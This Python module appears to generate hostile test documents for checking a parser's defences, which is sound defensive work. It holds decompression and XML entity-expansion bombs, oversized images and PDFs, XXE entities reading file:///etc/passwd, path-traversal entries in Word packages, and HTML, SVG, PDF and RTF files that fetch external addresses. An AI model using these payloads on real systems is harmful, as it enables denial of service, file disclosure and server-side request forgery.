"""Documents made to harm their reader: small files that ask for much memory or time, and files
that point to what is none of their business.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

_WORD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>'
    "{}</w:body></w:document>"
)
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_PICTURE = (
    '<w:p><w:r><w:t>Words.</w:t></w:r><w:r><w:drawing><a:blip r:embed="r" xmlns:a="http://schemas.'
    'openxmlformats.org/drawingml/2006/main"/></w:drawing></w:r></w:p>'
)


def archive(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def word(body: str, before: str = "", **more: bytes | str) -> bytes:
    """A Word file; `before` stands ahead of the root, `more` are further parts by path."""
    document = '<?xml version="1.0"?>' + before + _WORD.format(body)
    return archive({"[Content_Types].xml": _TYPES, "word/document.xml": document, **more})


def png(width: int, height: int) -> bytes:
    """A picture of one colour, however large: its rows pack to nothing."""
    rows = zlib.compressobj(9)
    packed = b"".join(rows.compress(bytes(1 + (width + 7) // 8)) for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", packed + rows.flush()), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count, start = len(objects) + 1, len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count + table
    return out + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (count, start)


def stream(content: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    head = b"<</Length %d/Filter/FlateDecode%s>>" % (len(packed), more)
    return head + b"stream\n" + packed + b"\nendstream"


def one_page(content: bytes, box: bytes = b"0 0 612 792") -> bytes:
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources" % box
            + b"<</Font<</F 5 0 R>>>>>>",
            content,
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def _many_pages() -> bytes:
    kids = b" ".join(b"3 0 R" for _ in range(100_000))
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        ]
    )


BOMBS: dict[str, Callable[[], bytes]] = {
    "zip that swells": lambda: word("", **{"word/media/a.png": bytes(200_000_000)}),
    "zip with a text that swells": lambda: word("<w:p><w:r><w:t>" + "a" * 100_000_000),
    "zip with many members": lambda: archive({f"x{n}": b"" for n in range(70_000)}),
    "zip inside a zip": lambda: archive(
        {"a.zip": archive({"b.zip": archive({"c": bytes(10**7)})})}
    ),
    "entities that multiply": lambda: word(
        "<w:p><w:r><w:t>&h;</w:t></w:r></w:p>",
        "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
        + "".join(
            f"<!ENTITY {b} '{('&' + a + ';') * 10}'>"
            for a, b in zip("abcdefg", "bcdefgh", strict=True)
        )
        + "]>",
    ),
    "picture of a gigapixel": lambda: png(40_000, 30_000),
    "picture as wide as a street": lambda: png(2_000_000, 20),
    "page as large as a field": lambda: one_page(stream(b"BT /F 9 Tf (x) Tj ET"), b"0 0 1e7 1e7"),
    "page without an end": lambda: one_page(stream(b"q " * 30_000_000)),
    "page with a million words": lambda: one_page(
        stream(b"BT /F 1 Tf " + b"1 0 Td (word ) Tj " * 400_000 + b"ET")
    ),
    "stream that swells": lambda: one_page(stream(bytes(500_000_000))),
    "a hundred thousand pages": _many_pages,
    "pages that hold themselves": lambda: pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"]
    ),
    "brackets without end": lambda: one_page(stream(b"[" * 5_000_000)),
    "html as deep as the sea": lambda: b"<div>" * 300_000,
    "one line of commas": lambda: b"," * 5_000_000,
    "one word": lambda: b"a" * 20_000_000,
    "many short lines": lambda: b"- a\n" * 1_000_000,
    "mail in a mail": lambda: b"Content-Type: message/rfc822\n\n" * 20_000 + b"x",
    "quotes in quotes": lambda: b"> " * 200_000 + b"x",
    "emphasis without end": lambda: b"*a **a " * 200_000,
}
"""Small files that ask for much, by name."""

SLOW = {
    "picture as wide as a street",
    "page without an end",
    "page with a million words",
    "stream that swells",
    "a hundred thousand pages",
    "one word",
    "many short lines",
    "mail in a mail",
}
"""They run into a limit, which takes as long as it does."""


def callers(url: str) -> dict[str, bytes]:
    """Documents that ask their reader to fetch from that address, or to read a file."""
    entity = f"<!DOCTYPE x [<!ENTITY e SYSTEM '{url}/e'><!ENTITY f SYSTEM 'file:///etc/passwd'>]>"
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r" TargetMode="External" Target="{url}/i.png" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>'
    )
    above = relation.replace(f"{url}/i.png", "../../../../../../etc/passwd")
    above = above.replace(' TargetMode="External"', "")
    page = (
        f'<!doctype html><base href="{url}"><link rel=stylesheet href="{url}/c.css">'
        f'<script src="{url}/s.js"></script><img src="{url}/i.png"><iframe src="{url}/f"></iframe>'
        f'<object data="{url}/o"></object><style>@import "{url}/d.css";</style><p>Words.</p>'
    )
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" width="90"'
        f' height="90"><image l:href="{url}/i.png" width="9" height="9"/><image l:href="file:///etc/'
        f'passwd" width="9" height="9"/><text x="9" y="9">Words.</text></svg>'
    )
    action = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%s)>>>>" % url.encode()
    pages = [
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    return {
        "a.html": page.encode(),
        "a.svg": drawing.encode(),
        "a.svg with entities": (
            f'{entity}<svg xmlns="http://www.w3.org/2000/svg"><text>&e;&f;</text></svg>'.encode()
        ),
        "a.docx": word("<w:p><w:r><w:t>Words.</w:t></w:r></w:p>",
                       **{"word/_rels/document.xml.rels": relation}),
        "a.docx that points above itself": word(
            _PICTURE, **{"word/_rels/document.xml.rels": above, "../../../evil": "x", "/evil": "x"}
        ),
        "a.docx with entities": word("<w:p><w:r><w:t>&e;&f;</w:t></w:r></w:p>", entity),
        "a.xml": f'<?xml version="1.0"?>{entity}<a>&e;&f;</a>'.encode(),
        "a.pdf": pdf([action, *pages]),
        "a.md": f"![x]({url}/i.png)\n\n<img src='{url}/j.png'>\n\n[x]: {url}/k".encode(),
        "a.eml": (
            f"From: a\nContent-Type: text/html\n\n<img src='{url}/i.png'><p>Words.</p>".encode()
        ),
        "a.rtf": f"{{\\rtf1{{\\field{{\\*\\fldinst INCLUDEPICTURE {url}/i.png}}}} A.}}".encode(),
    }  # fmt: skip
